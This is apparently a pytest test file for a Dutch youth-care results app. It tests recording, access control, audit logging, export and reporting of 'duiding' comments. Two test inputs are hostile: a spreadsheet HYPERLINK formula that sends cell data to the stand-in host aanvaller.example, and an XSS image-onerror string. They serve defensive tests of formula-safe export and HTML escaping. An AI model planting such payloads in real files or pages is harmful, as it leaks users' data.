"""Duiding: recording, who may read and write it, the audit trail, the export and the report."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from jeugdhulp.accounts.models import Membership, MembershipStatus
from jeugdhulp.accounts.permissions import can, forget_scope
from jeugdhulp.audit.models import AuditAction, AuditEvent
from jeugdhulp.results.duiding import summary
from jeugdhulp.results.models import AnalysisRun, Duiding, IndicatorRow, RunStatus
from jeugdhulp.results.report import render_html

FORMULA = '=HYPERLINK("http://aanvaller.example/?"&B2,"Klik")'


def _urls(run, code="A00", form="ALLE"):
    query = f"?gebied={code}&hulpvorm={form}"
    return {
        "panel": reverse("results:duiding_panel", args=[run.pk]) + query,
        "page": reverse("results:duiding", args=[run.pk]) + query,
        "post": reverse("results:duiding", args=[run.pk]),
        "delete": reverse("results:duiding_delete", args=[run.pk]),
    }


def _record(client, run, *, code="A00", form="ALLE", json=True, **fields):
    data = {"gebied": code, "hulpvorm": form, "herkend": "herkend", "toelichting": ""} | fields
    headers = {"Accept": "application/json"} if json else {}
    return client.post(_urls(run)["post"], data, headers=headers)


def test_a_coordinator_records_a_duiding_and_the_panel_counts_it(client, done_run, users):
    run = done_run["run"]
    client.force_login(users["coordinator"])
    answer = _record(
        client,
        run,
        herkend="herkend",
        factoren=["samenwerking", "sociale_cohesie"],
        toelichting="Sterk wijkteam sinds 2023.",
    )
    assert answer.status_code == 200
    panel = client.get(_urls(run)["panel"]).json()
    counts = {a["code"]: a["aantal"] for a in panel["samenvatting"]["antwoorden"]}
    assert counts == {"herkend": 1, "niet_herkend": 0, "weet_niet": 0}
    # In the order of the list, whatever order the form sent.
    assert [f["code"] for f in panel["samenvatting"]["factoren"]] == [
        "sociale_cohesie",
        "samenwerking",
    ]
    (text,) = panel["samenvatting"]["teksten"]
    assert text["tekst"] == "Sterk wijkteam sinds 2023."
    assert text["organisatie"] == done_run["region"].naam
    assert panel["eigen"]["factoren"] == ["sociale_cohesie", "samenwerking"]
    assert panel["teksten"]["personen"] == "1 persoon gaf een duiding."


def test_one_duiding_per_person_area_and_form_is_edited_not_added(client, done_run, users):
    run = done_run["run"]
    client.force_login(users["coordinator"])
    _record(client, run, herkend="herkend")
    _record(client, run, herkend="weet_niet", toelichting="Toch niet zeker.")
    (only,) = Duiding.objects.all()
    assert only.herkend == "weet_niet" and only.toelichting == "Toch niet zeker."
    # Another form of help of the same area is another duiding.
    _record(client, run, form="BH")
    assert Duiding.objects.count() == 2


def test_several_people_are_counted_apart(client, done_run, users):
    run = done_run["run"]
    client.force_login(users["coordinator"])
    _record(client, run, herkend="herkend", factoren=["veiligheid"])
    client.force_login(users["analist"])
    _record(client, run, herkend="niet_herkend", factoren=["veiligheid", "registratie"])
    panel = client.get(_urls(run)["panel"]).json()
    counts = {a["code"]: a["aantal"] for a in panel["samenvatting"]["antwoorden"]}
    assert counts == {"herkend": 1, "niet_herkend": 1, "weet_niet": 0}
    factors = {f["code"]: f["aantal"] for f in panel["samenvatting"]["factoren"]}
    assert factors == {"veiligheid": 2, "registratie": 1}
    assert panel["samenvatting"]["factoren"][0]["code"] == "veiligheid"  # most named first
    assert panel["teksten"]["personen"] == "2 personen gaven hun duiding."


def test_a_duiding_belongs_to_the_round_and_survives_a_rerun(client, done_run, users):
    run = done_run["run"]
    client.force_login(users["coordinator"])
    _record(client, run, toelichting="Gekend verschil.")
    again = AnalysisRun.objects.create(
        ronde_id=run.ronde_id,
        ronde_naam=run.ronde_naam,
        peildatum=run.peildatum,
        organisatie=run.organisatie,
        versie=2,
        status=RunStatus.DONE,
        hulpvormen=run.hulpvormen,
    )
    rows = list(IndicatorRow.objects.filter(run=run, gebied_code="A00"))
    for row in rows:
        row.pk, row.run = None, again
    IndicatorRow.objects.bulk_create(rows)
    panel = client.get(_urls(again)["panel"]).json()
    assert panel["samenvatting"]["teksten"][0]["tekst"] == "Gekend verschil."


@pytest.mark.parametrize("who", ["partner", "outsider", "aanmelder"])
def test_who_may_not_see_the_results_may_not_read_or_write_duiding(client, done_run, users, who):
    run = done_run["run"]
    client.force_login(users["coordinator"])
    _record(client, run, toelichting="Alleen voor de regio.")
    client.force_login(users[who])
    urls = _urls(run)
    assert client.get(urls["panel"]).status_code == 404
    assert client.get(urls["page"]).status_code == 404
    assert _record(client, run).status_code == 404
    assert _record(client, run, json=False).status_code == 404
    export = reverse("results:duiding_export", args=[run.pk, "csv"])
    assert client.get(export).status_code == 404
    assert Duiding.objects.count() == 1


def test_only_the_author_changes_or_deletes_a_duiding(client, done_run, users):
    run = done_run["run"]
    client.force_login(users["coordinator"])
    _record(client, run, toelichting="Van de coördinator.")
    theirs = Duiding.objects.get()
    assert can(users["coordinator"], "results.change_duiding", theirs)
    assert not can(users["analist"], "results.change_duiding", theirs)
    client.force_login(users["analist"])
    # The analist's post makes their own duiding; the delete finds none of theirs.
    gone = client.post(_urls(run)["delete"], {"gebied": "A00", "hulpvorm": "ALLE"})
    assert gone.status_code == 404
    assert Duiding.objects.get().toelichting == "Van de coördinator."
    client.force_login(users["coordinator"])
    assert (
        client.post(_urls(run)["delete"], {"gebied": "A00", "hulpvorm": "ALLE"}).status_code == 302
    )
    assert not Duiding.objects.exists()


def test_an_author_who_lost_the_role_no_longer_changes_it(done_run, users):
    run = done_run["run"]
    author = users["coordinator"]
    duiding = Duiding.objects.create(
        ronde_id=run.ronde_id,
        organisatie=run.organisatie,
        gebied_code="A00",
        auteur=author,
        herkend="herkend",
    )
    Membership.objects.filter(user=author).update(status=MembershipStatus.GEWEIGERD)
    forget_scope(author)
    assert not can(author, "results.change_duiding", duiding)
    assert not can(author, "results.add_duiding", run)


@pytest.mark.parametrize(
    ("code", "form"), [("ONBEKEND", "ALLE"), ("A00", "XX"), ("A00\x00", "ALLE"), ("", "ALLE")]
)
def test_only_published_areas_and_forms_take_a_duiding(client, done_run, users, code, form):
    run = done_run["run"]
    client.force_login(users["coordinator"])
    assert _record(client, run, code=code, form=form).status_code == 404
    assert not Duiding.objects.exists()


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"herkend": ""}, "Kies herkend, niet herkend of weet niet."),
        ({"herkend": "misschien"}, "geen beschikbare keuze"),
        ({"factoren": ["geld"]}, "geen beschikbare keuze"),
        ({"toelichting": "x" * 1001}, "1000"),
    ],
)
def test_a_wrong_answer_gets_a_dutch_message_and_stores_nothing(
    client, done_run, users, fields, message
):
    run = done_run["run"]
    client.force_login(users["coordinator"])
    answer = _record(client, run, **fields)
    assert answer.status_code == 400
    texts = [e["message"] for errors in answer.json()["fouten"].values() for e in errors]
    assert any(message in t for t in texts), texts
    page = _record(client, run, json=False, **fields)
    assert page.status_code == 200 and message in page.content.decode()
    assert not Duiding.objects.exists()


def test_the_plain_page_works_without_javascript(client, done_run, users):
    run = done_run["run"]
    client.force_login(users["analist"])
    page = client.get(_urls(run)["page"]).content.decode()
    assert "Gebied A00" in page and "Gladgestreken verhouding" in page
    assert "geen personen" not in page and "Nog geen duiding" in page
    assert "iedereen die de resultaten mag zien" in page  # the privacy warning
    answer = _record(
        client, run, json=False, toelichting="<img src=x onerror=alert(1)>", factoren=["andere"]
    )
    assert answer.status_code == 302
    page = client.get(answer["Location"]).content.decode()
    assert "&lt;img src=x onerror=alert(1)&gt;" in page and "<img src=x" not in page
    assert "andere (1)" in page and "Mijn duiding verwijderen" in page


def test_every_change_is_audited_with_field_names_only(client, done_run, users):
    run = done_run["run"]
    client.force_login(users["coordinator"])
    _record(client, run, toelichting="Geheime inhoud")
    _record(client, run, herkend="weet_niet", toelichting="Geheime inhoud")
    client.post(_urls(run)["delete"], {"gebied": "A00", "hulpvorm": "ALLE"})
    events = list(
        AuditEvent.objects.filter(object_type="results.duiding").order_by("aangemaakt_op", "pk")
    )
    assert [e.action for e in events] == [
        AuditAction.CREATE,
        AuditAction.UPDATE,
        AuditAction.DELETE,
    ]
    assert {e.username for e in events} == {users["coordinator"].username}
    assert events[1].fields == ["herkend"]
    assert not any("Geheime" in str(e.object_repr) + str(e.fields) for e in events)


def test_the_export_is_formula_safe_names_no_person_and_is_audited(client, done_run, users):
    run = done_run["run"]
    client.force_login(users["coordinator"])
    _record(client, run, toelichting=FORMULA, factoren=["registratie", "andere"])
    answer = client.get(reverse("results:duiding_export", args=[run.pk, "csv"]))
    assert answer.status_code == 200
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert rows[0]["toelichting"] == "'" + FORMULA
    assert rows[0]["factoren"] == "registratie|andere"
    assert rows[0]["organisatie"] == done_run["region"].naam
    assert users["coordinator"].username not in text
    xlsx = client.get(reverse("results:duiding_export", args=[run.pk, "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)))["duiding"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("toelichting") + 1)
    assert cell.value == "'" + FORMULA and cell.data_type == "s"
    exports = AuditEvent.objects.filter(action=AuditAction.EXPORT, object_id=str(run.pk))
    assert sorted(e.fields[0] for e in exports) == ["duiding.csv", "duiding.xlsx"]
    assert client.get(reverse("results:duiding_export", args=[run.pk, "pdf"])).status_code == 404


def test_the_report_shows_the_duiding_beside_the_area_figures(client, done_run, users):
    run = done_run["run"]
    assert "nog geen duiding" in render_html(run)
    client.force_login(users["coordinator"])
    _record(
        client, run, herkend="niet_herkend", factoren=["actieve_huisarts"], toelichting="Nieuw."
    )
    html = render_html(run)
    row = IndicatorRow.objects.get(run=run, gebied_code="A00", hulpvorm="ALLE")
    assert f"{row.gebied_naam} (A00)" in html
    assert "actieve huisarts (1)" in html and "„Nieuw.”" in html
    assert "0 / 1 / 0" in html  # herkend / niet herkend / weet niet


def test_a_change_queues_a_fresh_report_of_the_latest_version(
    client, done_run, users, django_capture_on_commit_callbacks, monkeypatch
):
    from jeugdhulp.results import tasks

    queued = []
    monkeypatch.setattr(tasks, "report_job", queued.append)
    run = done_run["run"]
    client.force_login(users["coordinator"])
    with django_capture_on_commit_callbacks(execute=True):
        _record(client, run)
    assert queued == [run.pk]


def test_the_summary_of_nobody_is_empty():
    assert summary([]) == {
        "aantal": 0,
        "antwoorden": [
            {"code": "herkend", "label": "herkend", "aantal": 0},
            {"code": "niet_herkend", "label": "niet herkend", "aantal": 0},
            {"code": "weet_niet", "label": "weet niet", "aantal": 0},
        ],
        "factoren": [],
        "teksten": [],
    }
